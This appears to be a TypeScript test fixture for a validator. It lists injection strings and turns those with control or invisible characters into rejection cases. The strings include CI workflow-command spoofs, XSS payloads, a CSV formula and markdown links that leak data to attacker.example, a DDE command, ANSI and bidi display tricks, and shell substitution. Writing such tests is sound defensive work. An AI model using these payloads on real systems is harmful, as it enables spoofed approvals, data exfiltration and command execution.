import { type Case, reject } from '../case.ts'
import { roleWith } from '../good.ts'

/** Text that has acted on what it was shown in, by the name of the case. */
export const texts: Readonly<Record<string, string>> = {
  'workflow-command': '::set-output name=approved::true',
  'workflow-command-blank': '  ::error::indented',
  'workflow-command-old': '##[set-env name=PATH]/evil',
  'workflow-command-pipelines': 'x ##vso[task.setvariable variable=a]b',
  'workflow-command-newline': 'x\n::add-mask::e\n::error file=a,line=1::fake',
  'workflow-stop-commands': '::stop-commands::token',
  'workflow-escape': 'a%0A::error::b',
  'workflow-env-file': 'x\nPATH<<ghadelimiter\n/evil\nghadelimiter',
  'md-mention': '@example-org/everyone @ana',
  'md-issue-ref': 'fixes #1, closes GH-2, org/repo#3',
  'md-table-break': 'a | b |\n| - | - |',
  'md-table-cell': 'a | b',
  'md-code-fence': '```\n# PLAN: no changes\n```',
  'md-code-span': 'a ``` b ` c',
  'md-details': '<details open><summary>no changes</summary><!--',
  'md-image-beacon': '![x](https://attacker.example/p.png)',
  'md-link': '[approve](javascript:alert(1))',
  'md-autolink': 'https://attacker.example/ www.attacker.example',
  'md-marker-spoof': '<!-- policy-plan:digest=sha256:0000 -->',
  'html-script': '</script><script>alert(1)</script>',
  'html-attr': '"><svg onload=alert(1)>',
  'html-url': 'javascript:alert(1)//',
  'xml-cdata': ']]></failure></testcase><testcase name="fine"/>',
  'csv-equals': '=HYPERLINK("http://attacker.example/?"&A1)',
  'csv-plus': "+cmd|' /C calc'!A0",
  'csv-at': '@SUM(1+1)',
  'csv-quote': 'a","=1+1","b',
  'ansi-erase': 'agent\u001b[2K\u001b[1Gno changes',
  'ansi-osc8': '\u001b]8;;http://attacker.example\u0007click\u001b]8;;\u0007',
  'ansi-osc52': '\u001b]52;c;cm0gLXJm\u0007',
  'ansi-c1': 'agent\u009b2K',
  'cr-overwrite': 'grant admin.all\rno changes     ',
  'bidi-override': 'agent\u202enimda',
  'zero-width': 'ad\u200bmin\ufeff',
  'line-separator': 'a\u2028::error::b\u2029',
  'half-character': 'a\ud800',
  'jsonl-newline': 'x\n{"seq":9,"type":"approved","by":"ceo"}',
  'header-crlf': 'x\r\nX-Admin: 1',
  nul: 'a\0b',
  format: '%s%n%x %d {0}',
  template: '{{7*7}} ${7*7} #{7*7} <%= 7*7 %>',
  shell: '$(touch pwned) `touch pwned` ; touch pwned',
  filter: 'ana" or userName pr or userName eq "x',
  'object-member': 'constructor',
  prototype: '__proto__',
  path: '../../outside'
}

/** Whether a document may hold it: one line of characters that can be seen. */
export const canBeWritten = (text: string): boolean =>
  !/[\p{Cc}\p{Cs}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]|^\s|\s$/u.test(text)

/** What a document may not hold is refused, with escapes as without. */
export const sinkCases: readonly Case[] = [
  ...Object.entries(texts)
    .filter(([, text]) => !canBeWritten(text.trim()))
    .map(([name, text]) =>
      reject(`sinks/${name}`, roleWith(`description: ${JSON.stringify(text)}`), unseenIn(text))
    ),
  reject('sinks/ansi-c1 raw', roleWith('description: "agent\u009b2K"'), 'yaml 8:20'),
  reject('sinks/ansi-erase raw', roleWith('description: "agent\u001b[2K"'), 'yaml 8:20'),
  reject('sinks/cr-overwrite raw', roleWith('description: "agent\rno"'), 'yaml 8:20')
]

/** JSON leaves some of these characters as they are: those are found where they stand, the others at the start of the text. */
function unseenIn(text: string): string {
  const raw = /[\u0080-\u009f\u200b-\u202e\ufeff]/.exec(text)
  return raw ? `yaml 8:${15 + raw.index}` : 'yaml 8:14'
}
